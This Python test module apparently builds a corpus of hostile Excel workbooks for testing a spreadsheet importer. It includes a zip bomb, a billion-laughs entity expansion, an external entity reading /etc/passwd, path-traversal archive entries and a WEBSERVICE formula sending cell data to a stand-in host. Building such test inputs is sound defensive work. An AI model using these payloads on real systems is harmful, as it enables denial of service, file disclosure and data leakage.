"""Workbooks since 2007: archives that explode, XML that laughs, cells in the last corner, everything Excel lets pass."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl

from tests.hostile.corpus.write import MEGABYTE, Write

SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET = "xl/worksheets/sheet1.xml"
ROWS = (
    ("Mitgliedsnr.", "Vorname", "Nachname", "Eintritt"),
    (1, "Anna", "Müller", date(2020, 2, 1)),
    (2, "Cem", "Çelik", None),
)
INSIDE = 't="inlineStr"><is><t>x</t></is></c>'


def book(change: Callable[[Any], object] | None = None) -> Write:
    """Write a good workbook after a change."""

    def write(path: Path) -> None:
        made = openpyxl.Workbook()
        made.active.title = "Liste"
        for row in ROWS:
            made.active.append(row)
        if change:
            change(made)
        buffer = io.BytesIO()
        made.save(buffer)
        path.write_bytes(buffer.getvalue())

    return write


def with_parts(parts: Callable[[], Mapping[str, str | bytes]], change: Callable[[Any], object] | None = None) -> Write:
    """Write a good workbook in which some parts are others."""

    def write(path: Path) -> None:
        book(change)(path)
        with zipfile.ZipFile(path) as archive:
            kept = {name: archive.read(name) for name in archive.namelist()}
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, part in {**kept, **parts()}.items():
                archive.writestr(name, part)

    return write


def sheet(*rows: str, before: str = "", top: str = "") -> str:
    return f'{top}<worksheet xmlns="{SPACE}">{before}<sheetData>{"".join(rows)}</sheetData></worksheet>'


def row(number: int, *texts: str) -> str:
    cells = (
        f'<c r="{"ABCDEFGH"[index]}{number}" t="inlineStr"><is><t>{text}</t></is></c>'
        for index, text in enumerate(texts)
    )
    return f'<row r="{number}">{"".join(cells)}</row>'


GOOD = row(1, "Vorname", "Nachname") + row(2, "Anna", "Müller")


def with_sheet(make: Callable[[], str | bytes]) -> Write:
    return with_parts(lambda: {SHEET: make()})


def cut(path: Path) -> None:
    """Write the first half of a workbook."""
    book()(path)
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def flipped(path: Path) -> None:
    """Write a workbook in which bytes were changed on the way."""
    book()(path)
    content = bytearray(path.read_bytes())
    content[100:400:7] = bytes(len(content[100:400:7]))
    path.write_bytes(content)


def odd_names(path: Path) -> None:
    """Write a workbook in whose directory the names are in no encoding."""
    book()(path)
    content = path.read_bytes()
    start = content.index(b"PK\x01\x02")
    directory = content[start:].replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x00\x08")
    path.write_bytes(content[:start] + directory.replace(b"styles", b"\x9ctyles"))


def encrypted(path: Path) -> None:
    """Write what a workbook with a password begins with."""
    path.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(2000)
    )


def of_a_mac(made: Any) -> None:
    made.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
    made.active["D2"] = date(2020, 2, 1)


def hidden(made: Any) -> None:
    made.create_sheet("Alt").append(("Name",))
    made["Alt"].sheet_state = "veryHidden"


def merged(made: Any) -> None:
    made.active.merge_cells("A2:A3")


def formulas(made: Any) -> None:
    made.active["D3"] = '=WEBSERVICE("http://x.example/"&B2)'


def far_style(made: Any) -> None:
    made.active["XFD1048576"].number_format = "0.00"


LAUGHS = "<!DOCTYPE x [" + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10)) + "]>"
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
NUMBER = '<row r="3"><c r="A3"><v>{}</v></c><c r="B3" t="inlineStr"><is><t>Cem</t></is></c></row>'

FILES: Mapping[str, Write] = {
    "good.xlsx": book(),
    "zip-bomb.xlsx": with_parts(lambda: {"xl/sharedStrings.xml": b" " * 200 * MEGABYTE}),
    "zip-bomb-of-rows.xlsx": with_sheet(lambda: sheet(GOOD, row(3, "x", "y" * 100 * MEGABYTE))),
    "billion-laughs.xlsx": with_sheet(lambda: sheet(GOOD, row(3, "&l9;"), top=LAUGHS)),
    "external-entity.xlsx": with_sheet(lambda: sheet(GOOD, row(3, "&e;"), top=OUTSIDE)),
    "lone-cell-in-the-last-corner.xlsx": with_sheet(
        lambda: sheet(GOOD, f'<row r="1048576"><c r="XFD1048576" {INSIDE}</row>')
    ),
    "lone-cell-in-the-last-row.xlsx": with_sheet(
        lambda: sheet(GOOD, f'<row r="1048576"><c r="A1048576" {INSIDE}</row>')
    ),
    "lone-cell-in-the-last-column.xlsx": with_sheet(lambda: sheet(GOOD, f'<row r="3"><c r="XFD3" {INSIDE}</row>')),
    "cell-beyond-the-sheet.xlsx": with_sheet(lambda: sheet(GOOD, f'<row r="9999999"><c r="ZZZ9999999" {INSIDE}</row>')),
    "cells-in-a-diagonal.xlsx": with_sheet(
        lambda: sheet(
            GOOD,
            "".join(
                f'<row r="{n * 60}"><c r="{openpyxl.utils.get_column_letter(n)}{n * 60}" {INSIDE}</row>'
                for n in range(1, 16_000)
            ),
        )
    ),
    "style-in-the-last-corner.xlsx": book(far_style),
    "dimension-too-small.xlsx": with_sheet(lambda: sheet(GOOD, before='<dimension ref="A1"/>')),
    "dimension-too-large.xlsx": with_sheet(lambda: sheet(GOOD, before='<dimension ref="A1:XFD1048576"/>')),
    "dimension-of-nonsense.xlsx": with_sheet(lambda: sheet(GOOD, before='<dimension ref="ZZZZ0:-1"/>')),
    "two-million-empty-rows.xlsx": with_sheet(
        lambda: sheet(GOOD, "".join(f'<row r="{n}"/>' for n in range(3, 2_000_000)))
    ),
    "sixteen-thousand-columns.xlsx": with_sheet(
        lambda: sheet('<row r="1">' + f"<c {INSIDE}" * 16_384 + "</row>", row(2, "a"))
    ),
    "nested-elements.xlsx": with_sheet(lambda: sheet(GOOD, "<a>" * 200_000 + "</a>" * 200_000)),
    "endless-attribute.xlsx": with_sheet(lambda: sheet(GOOD, f'<row r="3" x="{"y" * 20 * MEGABYTE}"></row>')),
    "error-cells.xlsx": with_sheet(
        lambda: sheet(
            GOOD, '<row r="3"><c r="A3" t="e"><v>#N/A</v></c><c r="B3" t="inlineStr"><is><t>Cem</t></is></c></row>'
        )
    ),
    "string-that-is-not-there.xlsx": with_sheet(
        lambda: sheet(GOOD, '<row r="3"><c r="A3" t="s"><v>99999</v></c></row>')
    ),
    "string-of-a-negative-number.xlsx": with_sheet(
        lambda: sheet(GOOD, '<row r="3"><c r="A3" t="s"><v>-1</v></c></row>')
    ),
    "number-beyond-all-numbers.xlsx": with_sheet(lambda: sheet(GOOD, NUMBER.format("1e999"))),
    "number-that-is-none.xlsx": with_sheet(lambda: sheet(GOOD, NUMBER.format("NaN"))),
    "text-where-a-number-belongs.xlsx": with_sheet(lambda: sheet(GOOD, NUMBER.format("Karl"))),
    "sheet-in-utf-16.xlsx": with_sheet(lambda: sheet(GOOD).encode("utf-16")),
    "sheet-that-is-cut-off.xlsx": with_sheet(lambda: sheet(GOOD)[:-60]),
    "empty-sheet.xlsx": with_sheet(lambda: b""),
    "year-1904.xlsx": book(of_a_mac),
    "date-in-the-far-future.xlsx": book(lambda made: made.active.append((3, "Eva", "Groß", datetime(9999, 12, 31)))),
    "hidden-sheet.xlsx": book(hidden),
    "merged-cells.xlsx": book(merged),
    "formula-without-a-result.xlsx": book(formulas),
    "macros.xlsm": with_parts(lambda: {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 1000}),
    "encrypted.xlsx": encrypted,
    "cut-off.xlsx": cut,
    "flipped-bytes.xlsx": flipped,
    "names-in-no-encoding.xlsx": odd_names,
    "paths-in-the-archive.xlsx": with_parts(
        lambda: {"../../../tmp/evil.xml": "x", "/etc/evil.xml": "x", "C:\\evil.xml": "x"}
    ),
    "workbook-without-sheets.xlsx": with_parts(lambda: {"xl/workbook.xml": f'<workbook xmlns="{SPACE}"/>'}),
    "relations-in-a-circle.xlsx": with_parts(
        lambda: {
            "xl/_rels/workbook.xml.rels": '<Relationships><Relationship Id="rId1" Type="x/worksheet" '
            'Target="workbook.xml"/></Relationships>'
        }
    ),
    "formulas-as-text.xlsx": book(lambda made: made.active.append((3, "'=1+1", "Groß", None))),
}
